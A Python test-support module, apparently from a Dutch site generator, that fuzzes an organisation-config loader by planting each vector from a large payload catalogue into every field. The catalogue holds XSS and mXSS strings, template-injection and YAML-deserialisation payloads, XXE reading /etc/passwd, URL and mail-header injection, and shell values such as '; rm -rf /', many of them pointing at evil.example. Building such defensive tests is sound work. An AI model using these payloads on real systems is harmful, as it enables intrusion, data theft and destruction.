"""Texts that try to become something else on a page, by the kind of door that each tries; and an organisation for each.

No two vectors try the same. Where one can stand is read from the model, so that no field can be forgotten.
"""

from __future__ import annotations

import types
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Annotated, Any, Final, Literal, TypeAlias, Union, get_args, get_origin, get_type_hints

from pydantic import AfterValidator, BaseModel

from conftest import TODAY
from terecht.findings import Finding, stopping
from terecht.flow.knowledge import Knowledge
from terecht.load import FILE, Client, load
from terecht.load.organisation import ROLES, Contact, Document, Organisation
from terecht.load.own_pages import is_name
from terecht.load.values import Text

#: What stands for a vector where nothing is tried: a page with this is what a page with a vector must look like.
HARMLESS: Final = "onschuldig"

GROUPS: Final[Mapping[str, tuple[str, ...]]] = {
    "elements": (
        "<script>alert(1)</script>",
        "<ScRiPt SRC=https://evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script/x>",
        "<script\n>alert(1)</script\n>",
        "<script>alert(1)//",
        "<<script>alert(1)//<</script>",
        "<iframe src=https://evil.example></iframe>",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        "<object data=https://evil.example/x.swf></object>",
        "<embed src=https://evil.example/x.svg>",
        "<base href=https://evil.example/>",
        '<meta http-equiv=refresh content="0;url=https://evil.example">',
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=preload as=script href=https://evil.example/x.js>",
        "<form action=https://evil.example><input name=geheim></form>",
        "<button formaction=https://evil.example form=flow>Verder</button>",
        "<input type=image src=https://evil.example/x.png>",
        "<video poster=https://evil.example/x.png><source src=https://evil.example/x.mp4></video>",
        "<audio src=https://evil.example/x.mp3 autoplay>",
        "<frameset onload=alert(1)><frame src=https://evil.example>",
        "<marquee behavior=alternate>",
        "<x-eigen>",
        "<image src=https://evil.example/x.png>",
        "<dialog open><h1>Log in</h1></dialog>",
        "</p></div></main></body></html><h1>Andere pagina</h1>",
        "<table><tr><td><form><tr><td>",
        "<a href=https://evil.example>Bel ons hier</a>",
        "<plaintext>",
        "<portal src=https://evil.example></portal>",
        "< script>alert(1)</ script>",
        "<\u0131mg src=x>",
    ),
    "attributes": (
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        " onmouseover=alert(1) x=",
        "` onmouseover=alert(1) x=`",
        '"><img src=x onerror=alert(1)>',
        "'><svg onload=alert(1)>",
        '"/autofocus/onfocus="alert(1)',
        '"\nonclick="alert(1)',
        '\\" onclick=\\"alert(1)',
        "&quot; onclick=&quot;alert(1)",
        "&#34 onclick=&#34alert(1)",
        "&#x22;&#x3E;&#x3C;img src=x onerror=alert(1)&#x3E;",
        '" style="position:fixed;inset:0;background:url(https://evil.example)',
        '" href="https://evil.example',
        '" srcdoc="<b>x</b>" data-x="',
        '" popovertarget="menu" data-x="',
        '" class="t-left" id="flow',
        '" data-if="1" hidden="',
        "\" is='x-eigen' slot='",
        '" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)',
        '">--></title></style></textarea></script><b>',
    ),
    "handlers": (
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video onloadstart=alert(1) src=x>",
        "<b onpointerenter=alert(1)>x</b>",
        "<img src=x ONERROR\n=\nalert(1)>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        "<img/src=x/onerror=alert`1`>",
        "<b style=animation-name:x onanimationstart=alert(1)>",
        "<b contenteditable onbeforeinput=alert(1)>x</b>",
        "<div onbeforetoggle=alert(1) popover id=x></div>",
        "<b oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    ),
    "schemes": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
        " javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6a&#x61vascript:alert(1)",
        "java%0ascript:alert(1)",
        "javascript://voorbeeld.example/%0aalert(1)",
        "javascript:https://voorbeeld.example/",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "vbscript:msgbox(1)",
        "blob:https://voorbeeld.example/1",
        "filesystem:https://voorbeeld.example/temporary/x",
        "file:///etc/passwd",
        "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "intent://x#Intent;scheme=http;end",
        "about:blank#javascript:alert(1)",
        "ws://evil.example/",
    ),
    "drawings": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><use href=https://evil.example/x.svg#x /></svg>",
        "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
        "<svg><image href=https://evil.example/x.png /></svg>",
        "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
        "<svg><handler type=application/ecmascript>alert(1)</handler></svg>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    ),
    "styles": (
        "</style><script>alert(1)</script>",
        "red;}body{background:url(https://evil.example)}",
        "@import url(https://evil.example/x.css);",
        "url('javascript:alert(1)')",
        "expression(alert(1))",
        "-moz-binding:url(https://evil.example/x.xml#x)",
        "behavior:url(https://evil.example/x.htc)",
        "}*{display:none}/*",
        "*/ body{visibility:hidden} /*",
        "\\3c/style\\3e\\3cscript\\3e",
        "input[value^=a]{background:url(https://evil.example/a)}",
        "@font-face{font-family:x;src:url(https://evil.example/x.woff)}",
        "var(--x);--t-text:#fff",
        "#fff}@media all{:root{--t-page:url(//evil.example)}}",
        "<style>*{color:red}</style>",
        "<style>@charset 'utf-7';</style>",
    ),
    "templates": (
        "{{ 7 * 7 }}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{% for x in range(9) %}<b>{% endfor %}",
        "{# weg #}",
        "{%- raw -%}<script>alert(1)</script>{%- endraw -%}",
        "{{ '<script>alert(1)</script>' | safe }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[${7*7}]]",
        "%(name)s %s {0} {name} {organisation.contacts}",
        "}}<b>{{",
        "{% endif %}{% endblock %}<b>",
    ),
    "Markdown": (
        "[klik](javascript:alert(1))",
        "[klik](<javascript:alert(1)>)",
        "![x](https://evil.example/spoor.png)",
        "[klik][x]\n\n[x]: javascript:alert(1) 'titel'",
        "<javascript:alert(1)>",
        "tekst {: onclick=alert(1) }",
        "tekst {: #flow .t-left style=color:red }",
        "## Kop {: onmouseover=alert(1) }",
        "# Kop",
        "Kop\n===",
        "<div markdown=1 onclick=alert(1)>\n\n*x*\n\n</div>",
        "--8<-- '/etc/passwd'",
        ";--8<-- '../../snijders/organisation.yml'",
        '!!! danger "<script>alert(1)</script>"\n    x',
        '??? note "<img src=x onerror=alert(1)>"\n    x',
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "```html\n<script>alert(1)</script>\n```",
        "~~~ {: onclick=alert(1) }\nx\n~~~",
        "    <script>alert(1)</script>",
        "`<script>alert(1)</script>",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "*[HTML]: <script>alert(1)</script>",
        "term\n:   <b onclick=alert(1)>x</b>",
        "[[wiki|javascript:alert(1)]]",
        "==mark== ^^ins^^ ~~del~~ ++ctrl+c++ :smile: H~2~O",
        "1. een\n\n    <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "\\<script>alert(1)\\</script>",
        "[klik](wie.md){: target=_top ping=https://evil.example }",
        "[toc] [TOC]",
        "$$x$$ \\(x\\)",
        '=== "tab"\n    <b>x</b>',
        "- [x] <b>taak</b>",
        "[//]: # (<script>alert(1)</script>)",
        "[klik](https://voorbeeld.example 'x\" onclick=\"alert(1)')",
        "![x][y]\n\n[y]: https://evil.example/spoor.png",
        "wzxhzdk:0 klzzwxh:0001 \u00022\u0003",
    ),
    "YAML": (
        "---\ntemplate: evil.html\n---\n",
        "x\nhide: [navigation]",
        "!!python/object/apply:os.system [id]",
        "!ENV HOME",
        "!relative $config_dir",
        "&anker *anker <<: *anker",
        "x: y # z",
        "x'\"]}: [",
        "%YAML 1.1",
        "...",
        "| >- @x `y",
    ),
    "XML": (
        "<?xml version='1.0'?>",
        "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
        "<?php system('id') ?>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script>",
        "<!-- --><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "--!><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "<!ELEMENT x ANY>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&ltscript&gtalert(1)",
        "&amp;lt;script&amp;gt;",
        "&NewLine;&Tab;&nvlt;&ac;",
        "</loc></url><url><loc>https://evil.example/",
        "<!--#include virtual='/etc/passwd' -->",
        "<esi:include src='https://evil.example/'/>",
    ),
    "characters": (
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u2039script\u203aalert(1)\u2039/script\u203a",
        "\u02bcsrc\u02ba onclick=\u02baalert(1)\u02ba",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u00c0\u00bcscript\u00c0\u00be",
        "\\u003cscript\\u003ealert(1)",
        "\\x3cscript\\x3e",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "\x1b[2J\x1b]0;x\x07",
        "<img src=x\x0conerror=alert(1)>",
        "\u202e>tpircs/<)1(trela>tpircs<\u202c",
        "\u2066<b>\u2069",
        "\ue000100\ue001",
        "\ue0000\ue001",
        "\ue002/evil",
        "\ue001",
        "\uf8ff",
        "\U000f0000",
        "\ufeff<script>",
        "\ufffe",
        "\ud800",
        "a\u2028b\u2029c",
        "\u0085<script>",
        "\u200bjavascript:alert(1)",
        "\u00ad<b>",
        "\U000e0001\U000e0041",
        "\u0338<\u0338script>",
        "\u212a\u0130\ufb00\u00df",
        "e" + "\u0301" * 60,
        "\U0001f469\u200d\U0001f4bb",
        "\\",
        "'",
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea></textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "<title><a title='</title><img src=x onerror=alert(1)>'>",
        "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><slot></slot></template>",
        "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><foreignObject><p><style><img src='</style><img src=x onerror=alert(1)>'>",
        "<select><template><style><!--</style><a rel='--></style></template></select><b>'>",
        "<noembed><img title='</noembed><b>'>",
        "<noframes></noframes><b>",
        "<option><style></option></select><b></style>",
        "<a><b></a><i></b>",
        "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]>",
        "<ruby><rtc><rp><b></ruby>",
        "<listing>&lt;img onerror=alert(1) src&gt;</listing>",
    ),
    "scripts": (
        "</script><script>alert(1)</script>",
        "<!--<script>",
        "';alert(1)//",
        '";alert(1)//',
        '\\";alert(1)//',
        "${alert(1)}",
        '"},"docs":[{"location":"https://evil.example","title":"x","text":"y"}],"x":{"',
        "\\u0022,\\u0022x\\u0022:\\u0022",
        '"\\',
        "__proto__",
        "constructor.prototype",
        "<mark data-md-highlight onclick=alert(1)>",
        "*+-~^:x title:^100 text:*",
        "import('https://evil.example/x.js')",
        "//# sourceMappingURL=https://evil.example/x.map",
    ),
    "mail and phone": (
        "?bcc=kim@evil.example",
        "%3Fbcc=kim@evil.example",
        "%0d%0aBcc:kim@evil.example",
        "\r\nBcc: kim@evil.example\r\n\r\nx",
        "?subject=x&body=<script>alert(1)</script>",
        ",kim@evil.example",
        ";kim@evil.example",
        '"<script>alert(1)</script>"@voorbeeld.example',
        '"jip?bcc=kim@evil.example"@voorbeeld.example',
        "jip+<b>@voorbeeld.example",
        "jip(opmerking)@voorbeeld.example",
        "Jip <jip@voorbeeld.example>",
        "jip@[127.0.0.1]",
        "jip@voorbeeld.example\u3002evil.example",
        "06 12345678;phone-context=evil.example",
        "06 12345678;ext=1;postd=pp22",
        "tel:112,,,1#",
        "06 12345678,*21*0900123456#",
        "*#06#",
        "06\u00a012345678",
        "\u0660\u0666 \u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
        "0900-1234567",
    ),
    "addresses": (
        "//evil.example/",
        "\\\\evil.example\\x",
        "/\\evil.example",
        "https:evil.example",
        "https:///evil.example",
        "https://jip@evil.example/",
        "https://voorbeeld.example:x@evil.example/",
        "https://voorbeeld.example\\@evil.example/",
        "https://voorbeeld.example#@evil.example/",
        "https://voorbeeld.example%2f@evil.example/",
        "https://voorbeeld.example\u2044.evil.example/",
        "https://voorbeeld.example\u3002evil.example/",
        "https://\uff45vil.example/",
        "https://xn--e1awd7f.example/",
        "https://0x7f.1/",
        "https://[::1]/",
        "https://[::ffff:127.0.0.1%25eth0]/",
        "https://voorbeeld.example:99999/",
        'https://voorbeeld.example/"><script>alert(1)</script>',
        "https://voorbeeld.example/?x=javascript:alert(1)&y='-alert(1)-'",
        "https://voorbeeld.example/#<img src=x onerror=alert(1)>",
        "https://voorbeeld.example/%22%20onclick=%22alert(1)",
        "https://voorbeeld.example/../../x",
        "https://voorbeeld.example/&sol;evil.example",
        "https://voorbeeld.example/%2e%2e/%2e%2e/x",
        "https://voorbeeld.example/;%0aadd_header%20X%20y;",
        "https://voorbeeld.example/%22;return%20301%20https:%2f%2fevil.example;%22",
        "https://voorbeeld.example/$host/${uri}/%24args",
        "https://voorbeeld.example/x%0d%0aSet-Cookie:%20x=y",
        "https://voorbeeld.example/(x)[y]{z}|*",
        "https://voorbeeld.example/\u00e9\u00e9n",
        "HTTPS://VOORBEELD.EXAMPLE/",
        "http://voorbeeld.example\u0000.evil.example/",
        "https://-.example/",
        "https://./",
    ),
    "files": (
        "../../../etc/passwd",
        "..%2f..%2fx",
        "logo.png\x00.svg",
        ".htaccess",
        "-rf",
        "CON",
        "x" * 300,
        "a\nb",
        "$(id)`id`",
        "; rm -rf /",
        "index.html",
        "x.svg?y#z",
        "~",
        "x.php.png",
    ),
}


def every() -> dict[str, str]:
    """All vectors by a name that says their group and place in it."""
    return {f"{group} {number}": vector for group, of in GROUPS.items() for number, vector in enumerate(of, 1)}


#: Where a value stands in the file: the keys, and the positions in lists.
Place: TypeAlias = tuple[str | int, ...]

#: By kind of value: what is always accepted, and the ways in which a vector (``{}``) may slip through.
KINDS: Final[Mapping[str, tuple[str, ...]]] = {
    "text": (HARMLESS, "{}"),
    "short": (HARMLESS, "{}"),
    "literal": ("", "{}"),
    "phone": ("06 12345678", "{}", "06 12345678{}", "{}06 12345678", "+31 6 1234{}5678"),
    "internal_number": ("8112", "{}", "8112{}", "{}8112"),
    "email": (
        "jip@voorbeeld.example",
        "{}",
        "{}@voorbeeld.example",
        '"{}"@voorbeeld.example',
        "jip+{}@voorbeeld.example",
        "jip@voorbeeld.example{}",
        "jip@{}.example",
    ),
    "url": (
        "https://voorbeeld.example/",
        "{}",
        "https://voorbeeld.example/{}",
        "https://voorbeeld.example/?q={}",
        "https://voorbeeld.example/#{}",
        "https://{}",
        "https://voorbeeld.example{}",
        "{}https://voorbeeld.example/",
    ),
    "site_url": ("https://voorbeeld.example/", "{}", "https://voorbeeld.example/{}", "https://{}/x/"),
    "colour": ("#00539f", "{}", "#00539f{}", "#0053{}"),
    "date": ("2026-11-01", "{}", "2026-11-01{}", "{}2026-11-01"),
    "whole_number": ("7", "{}", "7{}"),
    "identifier": ("lin", "{}", "bos-{}"),
    "file_name": ("beeld.png", "{}", "{}.png", "../{}"),
    "site_language": ("nl", "{}", "nl{}"),
    "spoken_language": ("nl", "{}", "nl-{}", "{}-nl"),
}
#: Values that have to fit each other, and so are not simply those of their kind.
_FITTING: Final[Mapping[Place, str]] = {
    ("schema",): "1",
    ("country",): "NL",
    ("indexable",): "yes",
    ("discreet",): "no",
    ("review", "next"): "2027-05-01",
}
#: Contacts with every field that there is, by the role of each; the other roles have a name and one way to reach them.
_WHOLE: Final = ("vertrouwenspersoon", "vertrouwenspersoon", "mediator")
_WAYS: Final = ("phone", "email", "url", "address")


def fields(language: str) -> dict[Place, tuple[str, str]]:
    """Every place of an organisation that can hold a text, with its kind, and with what stands there at rest."""
    found = dict(_leaves(Organisation, ()))
    found = {place: kind for place, kind in found.items() if place[0] not in {"contacts", "documents"}}
    for number, role in enumerate((*_WHOLE, *(role for role in ROLES if role not in _WHOLE))):
        at: Place = ("contacts", number)
        whole = number < len(_WHOLE)
        shown = {"id", "roles", "name", _WAYS[number % len(_WAYS)]}
        found |= {place: kind for place, kind in _leaves(Contact, at) if whole or place[2] in shown}
        found |= {(*at, "id"): ("identifier", f"contact-{number}"), (*at, "roles", 0): ("literal", role)}
        if whole:
            found |= {(*at, "absent", 0, "replaced_by"): ("identifier", f"contact-{(number + 1) % len(_WHOLE)}")}
    for number in range(2):
        found |= dict(_leaves(Document, ("documents", number)))
    found |= {place: (found[place][0], value) for place, value in _FITTING.items()}
    found["languages", 0] = ("site_language", language)
    return {_in_one_language(place, kind[0], language): kind for place, kind in found.items()}


def _in_one_language(place: Place, kind: str, language: str) -> Place:
    """A text stands there for all languages, or, for every second contact and document, for one."""
    return (*place, language) if kind == "text" and place[1] == 1 else place


def _leaves(model: type[BaseModel], at: Place) -> Iterator[tuple[Place, tuple[str, str]]]:
    for name, hint in get_type_hints(model, include_extras=True).items():
        if name not in model.model_fields:
            continue
        place: Place = (*at, model.model_fields[name].alias or name)
        inner, listed = _inside(hint)
        place = (*place, 0) if listed else place
        if isinstance(inner, type) and issubclass(inner, BaseModel):
            yield from _leaves(inner, place)
        else:
            kind = _kind(inner)
            yield place, (kind, _choices(inner)[0] if kind == "literal" else KINDS[kind][0])


def _inside(hint: Any) -> tuple[Any, bool]:
    """A hint without what is optional about it, and whether it is that of the items of a list."""
    if get_origin(hint) in {Union, types.UnionType}:
        return _inside(next(part for part in get_args(hint) if part is not types.NoneType))
    bare = get_args(hint)[0] if get_origin(hint) is Annotated else hint
    return (_inside(get_args(bare)[0])[0], True) if get_origin(bare) is tuple else (hint, False)


def _kind(hint: Any) -> str:
    """The kind of a value: the name of the function that checks it."""
    if hint is Text:
        return "text"
    if _choices(hint):
        return "literal"
    checks = [one.func for one in hint.__metadata__ if isinstance(one, AfterValidator)]
    return str(checks[0].__name__).strip("_")


def _choices(hint: Any) -> tuple[str, ...]:
    bare = get_args(hint)[0] if get_origin(hint) is Annotated else hint
    return get_args(bare) if get_origin(bare) is Literal else ()


@dataclass(frozen=True)
class Planted:
    """An organisation with a vector in every field that takes it: what was accepted, and what was refused and why."""

    client: Client
    accepted: Mapping[Place, str]
    refused: Mapping[Place, tuple[Finding, ...]]


def plant(folder: Path, language: str, vector: str | None, content: Knowledge, picture: bytes) -> Planted:
    """Loads an organisation with the vector everywhere; a value that is refused makes room for the next way to try it.

    Without a vector it is the organisation at rest. Raises :class:`AssertionError` for a finding that is at no field.
    """
    folder.mkdir(parents=True)
    kinds = fields(language)
    ways = {place: _ways(place, kind, vector) for place, (kind, _) in kinds.items()}
    values = {place: next(ways[place], rest) for place, (_, rest) in kinds.items()}
    refused: dict[Place, tuple[Finding, ...]] = {}
    for place, (kind, _) in kinds.items():
        if kind == "file_name":
            _put(folder, values[place], picture)
            _put(folder, KINDS[kind][0], picture)
    while True:
        text, lines = _written(values)
        (folder / FILE).write_text(text, "utf-8")
        client, findings = load(folder, content, TODAY)
        stops = stopping(findings)
        if client is not None:
            accepted = {place: value for place, value in values.items() if value != kinds[place][1]}
            return Planted(client, accepted, refused)
        for finding in stops:
            assert finding.line in lines, finding
            at = lines[finding.line]
            assert values[at] != kinds[at][1], finding
            refused[at] = (*refused.get(at, ()), finding)
        for place in {lines[finding.line] for finding in stops}:
            values[place] = next(ways[place], kinds[place][1])
            if kinds[place][0] == "file_name":
                _put(folder, values[place], picture)


def _ways(place: Place, kind: str, vector: str | None) -> Iterator[str]:
    """The ways in which to try a vector in a field; which comes first differs from contact to contact."""
    if vector is None:
        return iter(())
    ways = KINDS[kind][1:]
    turn = sum(part for part in place if isinstance(part, int)) % len(ways)
    tried = [way.replace("{}", vector) for way in (*ways[turn:], *ways[:turn])]
    # An id that is one would only be another name for the same contact.
    return iter([way for way in tried if kind != "identifier" or not is_name(way)])


def _put(folder: Path, name: str, data: bytes) -> None:
    """A file of this name, if a file can have it."""
    try:
        if "/" not in name and name not in {"", ".", "..", FILE}:
            (folder / name).write_bytes(data)
    except (OSError, ValueError):
        pass


def _written(values: Mapping[Place, str]) -> tuple[str, dict[int, Place]]:
    """The values as YAML, each on a line of its own, and which stands on which line (from 1)."""
    lines: list[str] = []
    places: dict[int, Place] = {}
    open_: Place = ()
    for place in _ordered(values):
        shared = next((n for n, (a, b) in enumerate(zip(place, open_, strict=False)) if a != b), len(open_))
        lines += [f"{'  ' * depth}{_key(place[depth])}" for depth in range(shared, len(place) - 1)]
        lines.append(f"{'  ' * (len(place) - 1)}{_key(place[-1])} {quoted(values[place])}")
        places[len(lines)] = place
        open_ = place[:-1]
    return "\n".join(lines) + "\n", places


def _ordered(values: Mapping[Place, str]) -> list[Place]:
    """The places so that what belongs together stands together, and lists are in order."""
    first: dict[Place, int] = {}
    for number, place in enumerate(values):
        for depth in range(1, len(place) + 1):
            first.setdefault(place[:depth], number)
    return sorted(values, key=lambda place: [first[place[: depth + 1]] for depth in range(len(place))])


def _key(part: str | int) -> str:
    return "-" if isinstance(part, int) else f"{part}:"


def quoted(text: str) -> str:
    """A text as a double-quoted scalar of YAML, with an escape for all that can not be seen."""
    return "".join(['"', *map(_escaped, text), '"'])


def _escaped(character: str) -> str:
    if character in {'"', "\\"}:
        return f"\\{character}"
    if character.isprintable():
        return character
    return f"\\U{ord(character):08x}"
